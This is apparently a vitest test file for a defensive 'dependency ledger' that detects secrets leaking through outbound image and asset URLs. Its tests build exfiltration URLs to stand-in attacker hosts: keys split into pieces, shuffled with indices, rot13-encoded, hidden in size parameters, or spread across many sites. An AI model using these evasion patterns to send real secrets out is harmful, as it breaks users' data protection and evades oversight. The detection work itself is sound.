import { describe, expect, it } from 'vitest';
import { rot13 } from '../../src/taint/encode';
import { DependencyLedger, PIECE, RUN, RUNS, urlCost } from '../../src/taint/ledger';
import type { TaintToken } from '../../src/taint/tokens';

const KEY = 'sk_live_4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9';
const taint: TaintToken[] = [
  { value: KEY, kind: 'token', site: 'news.test' },
  { value: '482913', kind: 'one-time-code', site: 'news.test' },
];
const at = (href: string) => ({ url: new URL(href), site: 'attacker.test' });
const send = (ledger: DependencyLedger, urls: string[]) => urls.map((u) => ledger.charge(at(u), taint));
const pieces = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, 'g'))!;

describe('dependency ledger', () => {
  it('lets ordinary CDN loads through within the budget', () => {
    const ledger = new DependencyLedger();
    const verdicts = Array.from({ length: 30 }, (_, i) => ledger.charge({ url: new URL(`https://cdn.test/photos/photo-15232756${i}-37898b6baf30.jpg?w=200&fm=webp&q=80`), site: 'cdn.test' }, taint));
    expect(verdicts.every((v) => !v.refused)).toBe(true);
  });

  it('finds a key cut into pieces of any size, across requests and in any case', () => {
    for (const n of [1, 5, 11]) {
      const ledger = new DependencyLedger();
      const verdicts = send(ledger, pieces(KEY.toUpperCase(), n).map((p, i) => `http://attacker.test/p/${i % 2 === 0 ? p : p.toLowerCase()}.png`));
      expect(verdicts.some((v) => v.refused && v.why === 'taint')).toBe(true);
    }
  });

  it('finds a key in image-size values and a code split over two requests', () => {
    const ledger = new DependencyLedger();
    const parts = pieces(KEY.replace(/_/g, ''), 8);
    const urls = [];
    for (let i = 0; i < parts.length; i += 6) urls.push(`http://attacker.test/i.png?${['w', 'h', 'q', 'dpr', 'fm', 'fit'].map((k, j) => `${k}=${parts[i + j] ?? ''}`).join('&')}`);
    expect(send(ledger, urls).some((v) => v.refused)).toBe(true);
    const other = new DependencyLedger();
    expect(send(other, ['http://attacker.test/a.png?w=482', 'http://attacker.test/b.png?w=913']).at(-1)).toMatchObject({ refused: true, why: 'taint' });
  });

  it('finds a key one character per request beside an index, and rot13', () => {
    const ledger = new DependencyLedger();
    expect(send(ledger, [...KEY].map((c, i) => `http://attacker.test/c.png?i=${i}&c=${c}`)).some((v) => v.refused && v.why === 'taint')).toBe(true);
    const r = new DependencyLedger();
    expect(send(r, [`http://attacker.test/${rot13(KEY)}.png`])[0]).toMatchObject({ refused: true, why: 'taint' });
  });

  it('finds a key whose pieces went to many sites, one piece each, and refuses them all from then on', () => {
    // The red team's probe (issue 37): 5-character pieces of a key, one image per attacker site, 14 sites.
    const ledger = new DependencyLedger();
    const verdicts = pieces(KEY, 5).map((p, i) => ledger.charge({ url: new URL(`http://attacker-${i}.test/r/${p}.png`), site: `attacker-${i}.test` }, taint));
    const first = verdicts.findIndex((v) => v.refused);
    expect(verdicts[first]).toMatchObject({ refused: true, why: 'taint', across: true });
    // Refused at the piece that completes PIECE characters: at most PIECE - 1 of the key (letters and digits) left before it.
    expect(pieces(KEY, 5).slice(0, first).join('').replace(/[^a-z0-9]/gi, '').length).toBeLessThan(PIECE);
    // And a code in `?w=` halves on two sites.
    const halves = new DependencyLedger();
    halves.charge({ url: new URL('http://a1.test/hero.jpg?w=482'), site: 'a1.test' }, taint);
    expect(halves.charge({ url: new URL('http://a2.test/hero.jpg?w=913'), site: 'a2.test' }, taint)).toMatchObject({ refused: true, why: 'taint', across: true });
  });

  it('finds a key sent out of order, each piece beside its index, once RUNS runs of it arrived', () => {
    // The red team's probes (issue 37): 5-character pieces shuffled, each with its index; and the same with a
    // two-digit index glued to each piece (a sibling host). In order, no run of PIECE characters forms.
    const shuffled = pieces(KEY.replace(/_/g, ''), RUN).map((p, i) => ({ p, i })).sort((a, b) => ((a.i * 7) % 13) - ((b.i * 7) % 13));
    for (const url of [({ p, i }: { p: string; i: number }) => `http://attacker.test/r/${i}/${p}.png`, ({ p, i }: { p: string; i: number }) => `http://attacker.test/r/${String(i).padStart(2, '0')}${p}.png`]) {
      const ledger = new DependencyLedger();
      const verdicts = shuffled.map((piece) => ledger.charge(at(url(piece)), taint));
      const first = verdicts.findIndex((v) => v.refused);
      expect(verdicts[first]).toMatchObject({ refused: true, why: 'taint' });
      expect(shuffled.slice(0, first).filter(({ p }) => p.length >= RUN).length).toBeLessThan(RUNS);
    }
  });

  it('keeps the streams of all sites together across a restart', () => {
    const before = new DependencyLedger();
    before.charge({ url: new URL('http://a1.test/hero.jpg?w=482'), site: 'a1.test' }, taint);
    const after = new DependencyLedger(undefined, before.counts());
    expect(after.charge({ url: new URL('http://a2.test/hero.jpg?w=913'), site: 'a2.test' }, taint)).toMatchObject({ refused: true, across: true });
  });

  it('lets a page load from many CDNs at once', () => {
    const ledger = new DependencyLedger();
    const hosts = ['images.cdn1.test', 'fonts.cdn2.test', 'static.cdn3.test', 'cdn4.test', 'img.cdn5.test'];
    const verdicts = Array.from({ length: 60 }, (_, i) => {
      const host = hosts[i % hosts.length]!;
      return ledger.charge({ url: new URL(`https://${host}/assets/${['app', 'vendor', 'hero', 'logo'][i % 4]}-${(0x3f1a9c + i * 7919).toString(16)}.js?v=${i % 3}`), site: host.split('.').slice(-2).join('.') }, taint);
    });
    expect(verdicts.filter((v) => v.refused)).toEqual([]);
  });

  it('refuses a site over its budget, and a repeat still costs', () => {
    const ledger = new DependencyLedger({ site: 100, task: 1000 });
    expect(ledger.charge(at('http://attacker.test/aaaaaaaaaa'), []).refused).toBe(false);
    for (let i = 0; i < 89; i++) ledger.charge(at('http://attacker.test/aaaaaaaaaa'), []);
    expect(ledger.charge(at('http://attacker.test/aaaaaaaaaa'), [])).toMatchObject({ refused: true, why: 'site-budget' });
  });

  it('counts subdomain labels and ports as URL bytes, and lets a token go back to its own site', () => {
    expect(urlCost(new URL('http://abcdef.attacker.test:40482/x'), 'attacker.test')).toBe(6 + 5 + 2);
    const ledger = new DependencyLedger();
    expect(ledger.charge({ url: new URL(`http://news.test/${KEY}`), site: 'news.test' }, taint).refused).toBe(false);
  });

  it('refuses once PIECE characters of a token arrived, not only the whole token', () => {
    const ledger = new DependencyLedger();
    const verdicts = send(ledger, [...KEY.slice(0, 20)].map((c, i) => `http://attacker.test/c.png?i=${i}&c=${c}`));
    expect(verdicts.findIndex((v) => v.refused)).toBe(PIECE + 1);
  });
});

describe('dependency ledger counts kept with the task', () => {
  // A worker restart takes the counts back from the task: every verdict after it is the one an unbroken
  // ledger gives (the budget, the streams across the restart, the repeats), whatever the split point.
  const requests = [
    ...pieces(KEY, 1).map((ch, i) => `http://attacker.test/c.png?i=${i}&c=${ch}`),
    'http://attacker.test/a.jpg?w=482',
    'http://attacker.test/b.jpg?w=913',
    ...Array.from({ length: 80 }, (_, i) => `http://attacker.test/${i}/${'x'.repeat(50)}.png`),
  ];
  const verdicts = (ledger: DependencyLedger, urls: string[]) => urls.map((u) => { const v = ledger.charge(at(u), taint); return v.refused ? v.why : 'ok'; });

  it('gives the same verdicts after a restart at any point as without one', () => {
    const unbroken = verdicts(new DependencyLedger(), requests);
    expect(unbroken).toContain('taint');
    for (const split of [1, 5, 9, 10, 40, 67, 68, 100, requests.length - 1]) {
      const before = new DependencyLedger();
      const head = verdicts(before, requests.slice(0, split));
      // Through JSON, as the store keeps it.
      const after = new DependencyLedger(undefined, JSON.parse(JSON.stringify(before.counts())));
      expect([...head, ...verdicts(after, requests.slice(split))], `restart after ${split}`).toEqual(unbroken);
    }
  });

  it('a ledger started afresh would forget (the control): the key split across the restart is missed', () => {
    const split = 5;
    const fresh = [...verdicts(new DependencyLedger(), pieces(KEY, 1).slice(0, split).map((ch, i) => `http://attacker.test/c.png?i=${i}&c=${ch}`)), ...verdicts(new DependencyLedger(), pieces(KEY, 1).slice(split, split + PIECE - 1).map((ch, i) => `http://attacker.test/c.png?i=${i + split}&c=${ch}`))];
    expect(fresh).not.toContain('taint');
    const kept = new DependencyLedger();
    verdicts(kept, pieces(KEY, 1).slice(0, split).map((ch, i) => `http://attacker.test/c.png?i=${i}&c=${ch}`));
    const restored = new DependencyLedger(undefined, kept.counts());
    expect(verdicts(restored, pieces(KEY, 1).slice(split, split + PIECE - 1).map((ch, i) => `http://attacker.test/c.png?i=${i + split}&c=${ch}`))).toContain('taint');
  });

  it('keeps a stream only as far back as a run can reach: PIECE - 1 characters', () => {
    const ledger = new DependencyLedger();
    verdicts(ledger, Array.from({ length: 20 }, (_, i) => `http://cdn.test/img/photo-${i}-abcdefghij${i}.jpg?w=${200 + i}`));
    for (const a of ledger.counts().sites) {
      expect(a.stream.length).toBeLessThanOrEqual(PIECE - 1);
      for (const [, text] of a.slots) expect(text.length).toBeLessThanOrEqual(PIECE - 1);
    }
  });
});
